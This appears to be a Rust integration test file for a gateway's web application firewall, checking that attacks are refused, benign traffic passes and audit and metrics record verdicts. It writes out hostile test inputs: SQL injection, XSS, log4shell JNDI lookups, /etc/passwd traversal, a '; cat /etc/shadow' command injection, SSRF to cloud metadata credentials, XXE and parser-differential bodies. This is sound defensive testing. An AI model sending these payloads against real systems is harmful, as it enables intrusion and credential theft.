//! The WAF end to end through the real binary: attacks in every place a client can put them
//! (query, path, header, cookie, JSON, form, multipart, XML, chunked bodies) are refused with a
//! generic 403 problem that reaches no upstream; benign requests pass with their bodies intact;
//! detect mode, `off`, exclusions, custom rules, API-abuse limits and the body inspection
//! limit behave as configured; every verdict is explained in the audit event and counted in
//! metrics.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::time::Duration;

use common::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

async fn setup() -> (Gateway, TestUpstream) {
    let up = TestUpstream::start("app").await;
    let yaml = format!(
        r#"listeners: [{{ name: public, address: "127.0.0.1:0" }}]
admin: {{ address: "127.0.0.1:0" }}
upstreams: {{ app: {{ targets: ["{up}"] }} }}
waf:
  exclusions:
    - {{ classes: [sqli], targets: ["query:sql_ok"] }}
  custom_rules:
    - {{ id: 100001, description: "debug switch from outside", targets: ["header:x-debug"], operator: {{ equals: "on" }}, action: block, severity: notice }}
routes:
  - {{ name: detect, match: {{ prefix: /detect }}, upstream: app, auth: {{ anonymous: true }}, waf: {{ mode: detect }} }}
  - name: iptest
    match: {{ prefix: /iptest }}
    upstream: app
    auth: {{ anonymous: true }}
    waf:
      custom_rules:
        - {{ id: 100002, description: "loopback client", targets: [client_ip], operator: {{ ip_in: [127.0.0.0/8] }}, severity: notice }}
  - {{ name: off, match: {{ prefix: /off }}, upstream: app, auth: {{ anonymous: true }}, waf: {{ mode: off }} }}
  - name: notes
    match: {{ prefix: /notes }}
    upstream: app
    auth: {{ anonymous: true }}
    waf:
      exclusions: [{{ rules: [], targets: ["body:$.description"] }}]
  - {{ name: small, match: {{ prefix: /small }}, upstream: app, auth: {{ anonymous: true }}, waf: {{ inspect_body_bytes: 64 }} }}
  - {{ name: tight, match: {{ prefix: /tight }}, upstream: app, auth: {{ anonymous: true }}, max_body_bytes: 1KiB }}
  - {{ name: pass, match: {{ prefix: /pass }}, upstream: app, auth: {{ anonymous: true }}, waf: {{ inspect_body_bytes: 64, on_body_over_limit: pass }} }}
  - {{ name: uploads, match: {{ prefix: /uploads }}, upstream: app, auth: {{ anonymous: true }}, max_body_bytes: 8MiB }}
  - name: graphql
    match: {{ path: /graphql }}
    upstream: app
    auth: {{ anonymous: true }}
    waf: {{ api: {{ graphql: {{ max_depth: 4, max_aliases: 3 }} }} }}
  - {{ name: socket, match: {{ path: /socket }}, upstream: app, auth: {{ anonymous: true }}, websocket: true }}
  - {{ name: api, match: {{ prefix: / }}, upstream: app, auth: {{ anonymous: true }} }}
"#,
        up = up.url(),
    );
    (Gateway::start(bin(), &yaml).unwrap(), up)
}

async fn call(
    gw: &Gateway,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Resp {
    send(req(
        method,
        &format!("{}{path}", gw.url("public")),
        headers,
        body,
    ))
    .await
}

/// A blocked request: generic 403 problem (no rule, no payload), audit explains it.
fn assert_blocked(gw: &Gateway, r: &Resp, payload_marker: &str) -> serde_json::Value {
    let v = assert_problem(r, 403, "waf_blocked");
    // The random request id may spell a short marker by chance: look at the rest.
    let text = r.text().replace(v["request_id"].as_str().unwrap(), "");
    assert!(
        !text.contains(payload_marker),
        "the problem body echoes the payload: {text}"
    );
    for word in ["rule", "sqli", "xss", "score"] {
        assert!(
            !text.to_lowercase().contains(word),
            "the problem body explains too much: {text}"
        );
    }
    let ev = audit_of(gw, v["request_id"].as_str().unwrap());
    assert_eq!(ev["reason"], "waf_blocked", "{ev}");
    assert_eq!(ev["stage"], "waf", "{ev}");
    let waf = &ev["waf"];
    assert_eq!(waf["mode"], "block", "{ev}");
    assert_eq!(waf["blocked"], true, "{ev}");
    // Over the threshold, or a custom rule that blocks outright.
    assert!(
        waf["score"].as_u64().unwrap() >= waf["threshold"].as_u64().unwrap()
            || matches(&ev).iter().any(|m| m["class"] == "custom"),
        "{ev}"
    );
    ev
}

fn matches(ev: &serde_json::Value) -> Vec<serde_json::Value> {
    ev["waf"]["matches"].as_array().cloned().unwrap_or_default()
}

fn has_match(ev: &serde_json::Value, class: &str, target: &str) -> bool {
    matches(ev)
        .iter()
        .any(|m| m["class"] == class && m["target"] == target && m["excluded"].is_null())
}

/// (method, path, headers, body, a piece of the payload, expected class, expected target)
type Case<'a> = (
    &'a str,
    String,
    Vec<(&'a str, &'a str)>,
    String,
    &'a str,
    &'a str,
    &'a str,
);

#[tokio::test]
async fn attacks_everywhere_are_refused_before_any_upstream() {
    let (gw, up) = setup().await;
    let cases: Vec<Case> = vec![
        // (method, path, headers, body, marker, class, target)
        (
            "GET",
            "/items?id=1%27%20OR%20%271%27%3D%271".into(),
            vec![],
            String::new(),
            "OR '1'='1",
            "sqli",
            "query:id",
        ),
        (
            "GET",
            "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E".into(),
            vec![],
            String::new(),
            "alert(",
            "xss",
            "query:q",
        ),
        (
            "GET",
            "/items".into(),
            vec![("x-api-version", "${jndi:ldap://198.51.100.7/a}")],
            String::new(),
            "jndi",
            "log4shell",
            "header:x-api-version",
        ),
        // `tracestate` goes upstream as sent (a valid trace continues): inspected too.
        (
            "GET",
            "/items".into(),
            vec![
                (
                    "traceparent",
                    "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
                ),
                ("tracestate", "v=${jndi:ldap://198.51.100.7/a}"),
            ],
            String::new(),
            "jndi",
            "log4shell",
            "header:tracestate",
        ),
        // The WebSocket handshake goes upstream as sent: its fields are inspected.
        (
            "GET",
            "/socket".into(),
            vec![
                ("connection", "upgrade"),
                ("upgrade", "websocket"),
                ("sec-websocket-version", "13"),
                ("sec-websocket-key", "${jndi:ldap://198.51.100.7/a}"),
            ],
            String::new(),
            "jndi",
            "log4shell",
            "header:sec-websocket-key",
        ),
        (
            "GET",
            "/items".into(),
            vec![("cookie", "theme=dark; file=../../../../etc/passwd")],
            String::new(),
            "etc/passwd",
            "traversal",
            "cookie:file",
        ),
        (
            "POST",
            "/orders".into(),
            vec![("content-type", "application/json")],
            r#"{"order":{"note":"<img src=x onerror=alert(1)>","qty":1}}"#.into(),
            "onerror",
            "xss",
            "body:$.order.note",
        ),
        (
            "POST",
            "/ping".into(),
            vec![("content-type", "application/x-www-form-urlencoded")],
            "host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow".into(),
            "shadow",
            "command-injection",
            "body:host",
        ),
        (
            "POST",
            "/fetch".into(),
            vec![("content-type", "application/json")],
            r#"{"url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}"#.into(),
            "169.254",
            "ssrf",
            "body:$.url",
        ),
        (
            "POST",
            "/import".into(),
            vec![("content-type", "application/xml")],
            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#.into(),
            "ENTITY",
            "xxe",
            "body:!DOCTYPE",
        ),
        // A JSON-escaped operator in a value a backend parses as JSON.
        (
            "GET",
            "/users?filter=%7B%22user%22%3A%7B%22%5Cu0024ne%22%3Anull%7D%7D".into(),
            vec![],
            String::new(),
            "u0024ne",
            "nosql",
            "query:filter",
        ),
        // XInclude: the element is a target with its attributes.
        (
            "POST",
            "/import".into(),
            vec![("content-type", "application/xml")],
            r#"<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>"#.into(),
            "xi:include",
            "xxe",
            "body:/r/xi:include/<tag>",
        ),
        (
            "POST",
            "/login".into(),
            vec![("content-type", "application/json")],
            r#"{"user":"admin","password":{"$ne":null}}"#.into(),
            "$ne",
            "nosql",
            "body:$.password['$ne'] (name)",
        ),
        (
            "POST",
            "/upload".into(),
            vec![("content-type", "multipart/form-data; boundary=XyZ")],
            "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n' UNION SELECT password FROM users--\r\n--XyZ--\r\n".into(),
            "UNION",
            "sqli",
            "body:title",
        ),
    ];
    for (method, path, headers, body, marker, class, target) in cases {
        let before = up.hits();
        let r = call(&gw, method, &path, &headers, &body).await;
        let ev = assert_blocked(&gw, &r, marker);
        assert!(
            has_match(&ev, class, target),
            "{method} {path}: expected a {class} match on {target}: {:#}",
            ev["waf"]
        );
        for m in matches(&ev) {
            assert!(m["rule"].as_u64().unwrap() >= 1000, "{m}");
            assert!(!m["transforms"].as_str().unwrap().is_empty(), "{m}");
            assert!(m["snippet"].as_str().unwrap().chars().count() <= 65, "{m}");
        }
        assert_eq!(up.hits(), before, "{method} {path} reached the upstream");
    }
}

#[tokio::test]
async fn benign_requests_pass_with_bodies_intact() {
    let (gw, up) = setup().await;
    let r = call(
        &gw,
        "GET",
        "/items?q=O%27Brien%27s%20select%20shoes&sort=price&page=2&tags=a,b",
        &[
            ("user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
            ("referer", "https://shop.example/?a=1&b=2"),
        ],
        "",
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    let body = r#"{"name":"Dr. Ann O'Neil","address":"12, rue de l'Église","comment":"Please deliver after 5pm -- ring twice; thanks!","items":[{"sku":"A-12","qty":2}]}"#;
    let r = call(
        &gw,
        "POST",
        "/orders",
        &[("content-type", "application/json")],
        body,
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    let got = up
        .requests()
        .into_iter()
        .find(|q| q.path() == "/orders")
        .unwrap();
    assert_eq!(
        got.body.as_ref(),
        body.as_bytes(),
        "the inspected body reaches the upstream unchanged"
    );
    // Binary uploads are not inspected (a PNG's signature, then anything).
    let png = b"\x89PNG\r\n\x1a\n' OR 1=1 -- <script>".to_vec();
    let r = call_bytes(&gw, "/avatar", "image/png", png.clone()).await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    assert_eq!(up.requests().pop().unwrap().body.as_ref(), png.as_slice());
}

#[tokio::test]
async fn detect_mode_records_without_refusing_and_off_does_nothing() {
    let (gw, up) = setup().await;
    let r = call(
        &gw,
        "GET",
        "/detect/x?id=1%20union%20select%20password%20from%20users",
        &[],
        "",
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    assert_eq!(up.requests().last().unwrap().path(), "/detect/x");
    let id = r.header("x-request-id").unwrap().to_string();
    let ev = audit_of(&gw, &id);
    assert_eq!(ev["waf"]["mode"], "detect", "{ev}");
    assert_eq!(ev["waf"]["blocked"], true, "would have been blocked: {ev}");
    assert!(ev["reason"].is_null(), "{ev}");
    assert!(has_match(&ev, "sqli", "query:id"), "{ev}");

    let r = call(
        &gw,
        "GET",
        "/off/x?id=1%20union%20select%20password%20from%20users",
        &[],
        "",
    )
    .await;
    assert_eq!(r.status.as_u16(), 200);
    let ev = audit_of(&gw, r.header("x-request-id").unwrap());
    assert!(ev["waf"].is_null(), "mode off inspects nothing: {ev}");
}

#[tokio::test]
async fn exclusions_fix_false_positives_per_target_only() {
    let (gw, up) = setup().await;
    let attack = "1%27%20or%20%271%27%3D%271";
    // Gateway-wide: sqli rules off for query:sql_ok …
    let r = call(&gw, "GET", &format!("/items?sql_ok={attack}"), &[], "").await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    let ev = audit_of(&gw, r.header("x-request-id").unwrap());
    assert!(
        matches(&ev)
            .iter()
            .any(|m| m["class"] == "sqli" && m["excluded"] == true),
        "excluded matches are still recorded: {ev}"
    );
    // … but not for another parameter.
    let before = up.hits();
    let r = call(&gw, "GET", &format!("/items?other={attack}"), &[], "").await;
    assert_blocked(&gw, &r, "or '1'");
    assert_eq!(up.hits(), before);
    // Route-level: every rule off for body:$.description on /notes, not for $.title.
    let r = call(
        &gw,
        "POST",
        "/notes",
        &[("content-type", "application/json")],
        r#"{"description":"<script>alert(1)</script> is how XSS looks"}"#,
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    let r = call(
        &gw,
        "POST",
        "/notes",
        &[("content-type", "application/json")],
        r#"{"title":"<script>alert(1)</script>"}"#,
    )
    .await;
    assert_blocked(&gw, &r, "<script>");
}

#[tokio::test]
async fn custom_rules_score_or_block() {
    let (gw, up) = setup().await;
    // 100002 (client_ip in 127/8, notice = 2) matches every request to /iptest but stays
    // below 5.
    let r = call(&gw, "GET", "/iptest", &[], "").await;
    assert_eq!(r.status.as_u16(), 200);
    let ev = audit_of(&gw, r.header("x-request-id").unwrap());
    let m = matches(&ev);
    assert!(
        m.iter()
            .any(|m| m["rule"] == 100002 && m["target"] == "client_ip"),
        "{ev}"
    );
    assert_eq!(ev["waf"]["score"], 2, "{ev}");
    assert_eq!(ev["waf"]["blocked"], false, "{ev}");
    // 100001 blocks outright whatever its severity.
    let before = up.hits();
    let r = call(&gw, "GET", "/items", &[("x-debug", "on")], "").await;
    let ev = assert_blocked(&gw, &r, "x-debug");
    assert!(
        matches(&ev)
            .iter()
            .any(|m| m["rule"] == 100001 && m["target"] == "header:x-debug"),
        "{ev}"
    );
    assert_eq!(up.hits(), before);
}

#[tokio::test]
async fn api_abuse_limits() {
    let (gw, up) = setup().await;
    let before = up.hits();
    // GraphQL depth over 4.
    let deep = r#"{"query":"{ a { b { c { d { e { f } } } } } }"}"#;
    let r = call(
        &gw,
        "POST",
        "/graphql",
        &[("content-type", "application/json")],
        deep,
    )
    .await;
    let ev = assert_blocked(&gw, &r, "{ a");
    assert!(
        matches(&ev).iter().any(|m| m["class"] == "api-abuse"),
        "{ev}"
    );
    // Aliases over 3.
    let aliases = r#"{"query":"{ a1: me { id } a2: me { id } a3: me { id } a4: me { id } }"}"#;
    let r = call(
        &gw,
        "POST",
        "/graphql",
        &[("content-type", "application/json")],
        aliases,
    )
    .await;
    assert_blocked(&gw, &r, "a4");
    // Variables sent as a string that the WAF cannot read for list sizes (nested deeper than
    // its parser goes, which JSON.parse takes; or longer than 64 KiB) would let `first: $n`
    // pass whatever `n` is: refused, and named in the audit event.
    let nested = format!("{}{}", "[".repeat(200), "]".repeat(200));
    let long = "x".repeat(70 * 1024);
    for (vars, rule) in [
        (format!(r#"{{"n":1000000,"pad":{nested}}}"#), 2501),
        (format!(r#"{{"n":1000000,"pad":"{long}"}}"#), 2502),
    ] {
        // As express-graphql takes them: a JSON string member.
        let body = serde_json::json!({
            "query": "query Q($n: Int) { items(first: $n) { id } }",
            "variables": vars,
        })
        .to_string();
        let r = call(
            &gw,
            "POST",
            "/graphql",
            &[("content-type", "application/json")],
            &body,
        )
        .await;
        let ev = assert_blocked(&gw, &r, "1000000");
        assert!(
            matches(&ev)
                .iter()
                .any(|m| m["rule"] == rule && m["target"] == "body:$.variables"),
            "{ev}"
        );
    }
    // Mass assignment and parameter pollution on ordinary routes.
    let r = call(
        &gw,
        "POST",
        "/users",
        &[("content-type", "application/json")],
        r#"{"name":"eve","role":"admin"}"#,
    )
    .await;
    let ev = assert_blocked(&gw, &r, "admin");
    assert!(
        matches(&ev).iter().any(|m| m["class"] == "mass-assignment"),
        "{ev}"
    );
    let r = call(&gw, "GET", "/items?id=1&id=2", &[], "").await;
    let ev = assert_blocked(&gw, &r, "id=2");
    assert!(
        matches(&ev)
            .iter()
            .any(|m| m["class"] == "parameter-pollution"),
        "{ev}"
    );
    // A method override in a POST body: the form field in PHP's spelling, the JSON key.
    for (ct, body) in [
        ("application/x-www-form-urlencoded", "note=x&.method=DELETE"),
        ("application/json", r#"{"_method":"DELETE","note":"x"}"#),
        // Rack 2 and qs spellings.
        (
            "application/x-www-form-urlencoded",
            "note=x&[_method]=DELETE",
        ),
        (
            "application/x-www-form-urlencoded",
            "note=x&_method]=DELETE",
        ),
        // The type as PHP (and, but for the blank, Rack) reads it: a form.
        (
            "application/x-www-form-urlencoded, x",
            "note=x&_method=DELETE",
        ),
        (
            "application/x-www-form-urlencoded x",
            "note=x&_method=DELETE",
        ),
        // Rack reads every multipart type.
        (
            "multipart/mixed; boundary=b",
            "--b\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nDELETE\r\n--b--\r\n",
        ),
        // Laravel reads a body as JSON when its type holds `/json` anywhere.
        (
            "application/x-www-form-urlencoded; v=/json",
            r#"{"_method":"DELETE"}"#,
        ),
    ] {
        let r = call(&gw, "POST", "/orders/7", &[("content-type", ct)], body).await;
        let ev = assert_blocked(&gw, &r, "DELETE");
        assert!(matches(&ev).iter().any(|m| m["rule"] == 2401), "{ct}: {ev}");
    }
    // Rack reads a POST body without a type as a form.
    for body in ["note=x&_method=DELETE", "note=x;%5B_method%5D=DELETE"] {
        let r = call(&gw, "POST", "/orders/7", &[], body).await;
        let ev = assert_blocked(&gw, &r, "DELETE");
        assert!(
            matches(&ev)
                .iter()
                .any(|m| m["rule"] == 2401 && m["target"] != "body"),
            "{body}: {ev}"
        );
    }
    assert_eq!(up.hits(), before, "no abusive request reached the upstream");
    // Under a PUT, or nested, it is no override.
    let r = call(
        &gw,
        "PUT",
        "/orders/7",
        &[("content-type", "application/json")],
        r#"{"_method":"DELETE"}"#,
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    // A reasonable GraphQL query passes.
    let ok = r#"{"query":"query Q($id: ID!) { order(id: $id) { id items { sku } } }","variables":{"id":"1"}}"#;
    let r = call(
        &gw,
        "POST",
        "/graphql",
        &[("content-type", "application/json")],
        ok,
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

async fn call_coded(gw: &Gateway, path: &str, ct: &str, coding: &str, body: Vec<u8>) -> Resp {
    send(
        http::Request::builder()
            .method("POST")
            .uri(format!("{}{path}", gw.url("public")))
            .header("content-type", ct)
            .header("content-encoding", coding)
            .body(http_body_util::Full::new(bytes::Bytes::from(body)))
            .unwrap(),
    )
    .await
}

/// A compressed body is inspected inflated and goes upstream so (without its coding): an
/// upstream that would not inflate it cannot read bytes the WAF never judged, such as a gzip
/// header's comment. What the WAF cannot inflate, or what inflates past the inspection limit,
/// does not pass.
#[tokio::test]
async fn compressed_bodies_are_inspected_inflated() {
    let (gw, up) = setup().await;
    let before = up.hits();
    // An attack in a compressed text body (its compressed bytes look binary).
    let attack = gzip(b"name=1' UNION SELECT password FROM users--");
    let r = call_coded(&gw, "/orders", "text/plain", "gzip", attack).await;
    let ev = assert_blocked(&gw, &r, "UNION");
    assert!(matches(&ev).iter().any(|m| m["class"] == "sqli"), "{ev}");
    // A coding the WAF does not read, two codings, data that does not inflate: rule 1006.
    for (coding, body) in [
        ("br", b"\x0b\x02\x80q=1".to_vec()),
        ("gzip, gzip", gzip(&gzip(b"q=1"))),
        ("gzip", b"q=1".to_vec()),
    ] {
        let r = call_coded(&gw, "/orders", "application/json", coding, body).await;
        let ev = assert_blocked(&gw, &r, "q=1");
        let m = matches(&ev);
        assert!(m.iter().any(|m| m["rule"] == 1006), "{coding}: {ev}");
    }
    // Inflating past the route's inspection limit (64 bytes): 413 as a body sent that long,
    // the finding recorded; or passed, recorded, under `pass` (and in detect mode).
    let big = gzip(format!(r#"{{"text":"{}"}}"#, "a".repeat(200)).as_bytes());
    let r = call_coded(&gw, "/small", "application/json", "gzip", big.clone()).await;
    let v = assert_problem(&r, 413, "body_too_large");
    assert!(
        v["detail"].as_str().unwrap().contains("inflates past 64"),
        "{v}"
    );
    let ev = audit_of(&gw, v["request_id"].as_str().unwrap());
    assert!(matches(&ev).iter().any(|m| m["rule"] == 1006), "{ev}");
    // Within the inspection limit but past the route's body limit (1 KiB), which holds for
    // the inflated body the upstream would get.
    let wide = gzip(format!(r#"{{"text":"{}"}}"#, "a".repeat(4000)).as_bytes());
    let r = call_coded(&gw, "/tight", "application/json", "gzip", wide).await;
    let v = assert_problem(&r, 413, "body_too_large");
    assert!(
        v["detail"].as_str().unwrap().contains("inflates past 1024"),
        "{v}"
    );
    assert_eq!(up.hits(), before, "nothing refused reached the upstream");
    let r = call_coded(&gw, "/pass", "application/json", "gzip", big.clone()).await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    // A clean compressed body passes and reaches the upstream inflated.
    let clean = br#"{"q":"blue shoes"}"#;
    let r = call_coded(&gw, "/orders", "application/json", "gzip", gzip(clean)).await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    let got = up.requests().pop().unwrap();
    assert_eq!(got.body.as_ref(), clean.as_slice());
    assert!(got.headers.get("content-encoding").is_none());
    assert_eq!(
        got.headers["content-length"],
        clean.len().to_string().as_str()
    );
    // An attack in the gzip header's comment (a form parser reading the raw bytes would find
    // its `id`): the upstream gets only what the data inflates to.
    let mut e = flate2::GzBuilder::new()
        .comment("&id=1' UNION SELECT password FROM users--&")
        .write(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut e, b"a=b").unwrap();
    let hidden = e.finish().unwrap();
    let r = call_coded(
        &gw,
        "/orders",
        "application/x-www-form-urlencoded",
        "gzip",
        hidden,
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    assert_eq!(up.requests().pop().unwrap().body.as_ref(), b"a=b");
    assert_eq!(up.hits(), before + 3);
}

#[tokio::test]
async fn malformed_and_oversized_bodies() {
    let (gw, up) = setup().await;
    let before = up.hits();
    // A body that does not parse as its declared type cannot be inspected: refused.
    let r = call(
        &gw,
        "POST",
        "/orders",
        &[("content-type", "application/json")],
        r#"{"a": [1, 2"#,
    )
    .await;
    let ev = assert_blocked(&gw, &r, "[1, 2");
    assert!(matches(&ev).iter().any(|m| m["rule"] == 1001), "{ev}");
    // A body parsers could read differently from the WAF: refused (rule 1005).
    for (ct, body) in [
        (
            "application/json",
            r#"{"query":"{a}","query":"{__schema{types{name}}}"}"#,
        ),
        ("application/json; charset=utf-7", r#"{"q":"+ACc-"}"#),
    ] {
        let r = call(&gw, "POST", "/orders", &[("content-type", ct)], body).await;
        let ev = assert_blocked(&gw, &r, "__schema");
        assert!(matches(&ev).iter().any(|m| m["rule"] == 1005), "{ev}");
    }
    // Over the inspection limit: 413 by default …
    let big = format!(r#"{{"text":"{}"}}"#, "a".repeat(200));
    let r = call(
        &gw,
        "POST",
        "/small",
        &[("content-type", "application/json")],
        &big,
    )
    .await;
    let v = assert_problem(&r, 413, "body_too_large");
    assert!(v["detail"].as_str().unwrap().contains("inspect"), "{v}");
    assert_eq!(up.hits(), before);
    // … or passed whole, uninspected, with a recorded finding.
    let r = call(
        &gw,
        "POST",
        "/pass",
        &[("content-type", "application/json")],
        &big,
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    let got = up
        .requests()
        .into_iter()
        .find(|q| q.path() == "/pass")
        .unwrap();
    assert_eq!(
        got.body.as_ref(),
        big.as_bytes(),
        "the whole body, read part and rest"
    );
    let ev = audit_of(&gw, r.header("x-request-id").unwrap());
    assert!(matches(&ev).iter().any(|m| m["rule"] == 1004), "{ev}");
}

/// Bodies an upstream could read otherwise than the WAF did are refused (rule 1005, or 1001
/// for multipart that parsers cut differently) before any upstream sees them, and the gateway
/// goes on serving.
#[tokio::test]
async fn bodies_read_another_way_are_refused() {
    let (gw, up) = setup().await;
    let wide: String = "' UNION SELECT password FROM users--"
        .chars()
        .flat_map(|c| [c, '\0'])
        .collect();
    let hidden = "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--XyZ--\r\n\
--XyZ\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\n' UNION SELECT password FROM users--\r\n--XyZ--\r\n";
    /// Header fields, body, the rule expected.
    type Case<'a> = (Vec<(&'a str, &'a str)>, &'a str, u64);
    let cases: Vec<Case> = vec![
        // Two types, the first binary: not skipped as binary.
        (
            vec![
                ("content-type", "image/png"),
                ("content-type", "application/json"),
            ],
            r#"{"q":"' UNION SELECT password FROM users--"}"#,
            1005,
        ),
        // A form in UTF-7: `+ACc-` is a quote to the upstream.
        (
            vec![(
                "content-type",
                "application/x-www-form-urlencoded; charset=utf-7",
            )],
            "q=%2BACc- UNION SELECT password FROM users--",
            1005,
        ),
        (
            vec![("content-type", "text/plain; charset=utf-16")],
            "' UNION SELECT password FROM users--",
            1005,
        ),
        // UTF-16 without a type: not skipped as binary.
        (vec![], wide.as_str(), 1005),
        // A part after the close delimiter, which PHP reads.
        (
            vec![("content-type", "multipart/form-data; boundary=XyZ")],
            hidden,
            1001,
        ),
    ];
    for (headers, body, rule) in cases {
        let before = up.hits();
        let r = call(&gw, "POST", "/orders", &headers, body).await;
        let ev = assert_blocked(&gw, &r, "UNION");
        assert!(
            matches(&ev).iter().any(|m| m["rule"] == rule),
            "{headers:?}: expected rule {rule}: {ev}"
        );
        assert_eq!(up.hits(), before, "{headers:?} reached the upstream");
    }
    // A type with a byte beyond ASCII (sent raw: no client library writes one), whose form
    // PHP and Go read while the WAF could not read its type.
    let before = up.hits();
    let out = raw_chunked(
        &gw,
        "/orders",
        &[("Content-Type", "application/x-www-form-urlencoded; x=é")],
        &[b"name=eve&role=admin"],
    )
    .await;
    assert!(out.starts_with("HTTP/1.1 403"), "{out}");
    assert!(out.contains("application/problem+json"), "{out}");
    assert!(out.contains(r#""code":"waf_blocked""#), "{out}");
    let id = out
        .lines()
        .find_map(|l| l.strip_prefix("x-request-id: "))
        .unwrap();
    let ev = audit_of(&gw, id.trim());
    assert!(matches(&ev).iter().any(|m| m["rule"] == 1005), "{ev}");
    assert_eq!(up.hits(), before, "reached the upstream");
    // Still healthy: the same kinds of bodies, read one way, pass.
    let r = call(
        &gw,
        "POST",
        "/orders",
        &[("content-type", "text/plain; charset=utf-8")],
        "blue shoes",
    )
    .await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
}

/// A chunked body (no Content-Length) is buffered and inspected like any other.
#[tokio::test]
async fn chunked_bodies_are_inspected() {
    let (gw, up) = setup().await;
    let mut s = tokio::net::TcpStream::connect(gw.listener("public"))
        .await
        .unwrap();
    let chunk1 = r#"{"q":"1' UNION "#;
    let chunk2 = r#"SELECT password FROM users--"}"#;
    let raw = format!(
        "POST /orders HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n{chunk1}\r\n{:x}\r\n{chunk2}\r\n0\r\n\r\n",
        chunk1.len(),
        chunk2.len()
    );
    s.write_all(raw.as_bytes()).await.unwrap();
    let mut out = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut out))
        .await
        .unwrap()
        .unwrap();
    let text = String::from_utf8_lossy(&out);
    assert!(text.starts_with("HTTP/1.1 403"), "{text}");
    assert!(text.contains("waf_blocked"), "{text}");
    assert_eq!(up.hits(), 0);
}

#[tokio::test]
async fn matches_are_counted_in_metrics() {
    let (gw, _up) = setup().await;
    let r = call(
        &gw,
        "GET",
        "/items?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        &[],
        "",
    )
    .await;
    assert_eq!(r.status.as_u16(), 403);
    let m = get(&format!("{}/metrics", gw.admin_url())).await.text();
    assert!(
        m.lines()
            .any(|l| l.starts_with("portcullis_waf_matches_total{")
                && l.contains("class=\"xss\"")
                && l.contains("mode=\"block\"")),
        "{m}"
    );
    assert!(
        m.lines()
            .any(|l| l.starts_with("portcullis_waf_requests_total{")
                && l.contains("route=\"api\"")
                && l.contains("outcome=\"blocked\"")),
        "{m}"
    );
}

/// WAF hits from a client address raise the risk score authorization computes for it.
#[tokio::test]
async fn waf_hits_feed_the_risk_score() {
    const KEY: &str = "pk_live_0123456789abcdef0123456789abcdef";
    let hash = sha256_hex(KEY);
    let up = TestUpstream::start("app").await;
    let yaml = format!(
        r#"listeners: [{{ name: public, address: "127.0.0.1:0" }}]
admin: {{ address: "127.0.0.1:0" }}
upstreams: {{ app: {{ targets: ["{up}"] }} }}
auth:
  api_keys:
    keys: [{{ hash: "sha256:{hash}", client_id: shop }}]
authz:
  risk: {{ weights: {{ weak_authentication: 0 }} }}
routes:
  - name: account
    match: {{ prefix: /account }}
    upstream: app
    auth: {{ methods: [api_key] }}
    authz: {{ allow: any-authenticated, risk: {{ deny: 40 }} }}
  - {{ name: public, match: {{ prefix: / }}, upstream: app, auth: {{ anonymous: true }} }}
"#,
        up = up.url(),
    );
    let gw = Gateway::start(bin(), &yaml).unwrap();
    let key = [("x-api-key", KEY)];
    let r = call(&gw, "GET", "/account", &key, "").await;
    assert_eq!(r.status.as_u16(), 200, "{}", r.text());
    // An attack from this address, on another route …
    let r = call(
        &gw,
        "GET",
        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        &[],
        "",
    )
    .await;
    assert_eq!(r.status.as_u16(), 403);
    // … and its authenticated requests now score 40: refused by the risk rule.
    let before = up.hits();
    let r = call(&gw, "GET", "/account", &key, "").await;
    let v = assert_problem(&r, 403, "forbidden");
    let ev = audit_of(&gw, v["request_id"].as_str().unwrap());
    assert_eq!(ev["authz"]["rule"], "risk", "{ev}");
    assert_eq!(ev["authz"]["risk"], 40, "{ev}");
    assert_eq!(
        ev["authz"]["risk_signals"],
        serde_json::json!(["waf_hits"]),
        "{ev}"
    );
    assert_eq!(up.hits(), before);
}

/// An attack typed into a password field is blocked, and the password never reaches the audit
/// log: the snippet gives only its length.
#[tokio::test]
async fn secrets_are_not_quoted_in_audit() {
    let (gw, up) = setup().await;
    let r = call(
        &gw,
        "POST",
        "/login",
        &[("content-type", "application/json")],
        r#"{"user":"alice","password":"S3cr3t!' OR '1'='1"}"#,
    )
    .await;
    let ev = assert_blocked(&gw, &r, "S3cr3t");
    let m = matches(&ev);
    assert!(!m.is_empty());
    for x in &m {
        assert_eq!(x["target"], "body:$.password", "{ev}");
        assert!(
            x["snippet"].as_str().unwrap().starts_with("[redacted: "),
            "{ev}"
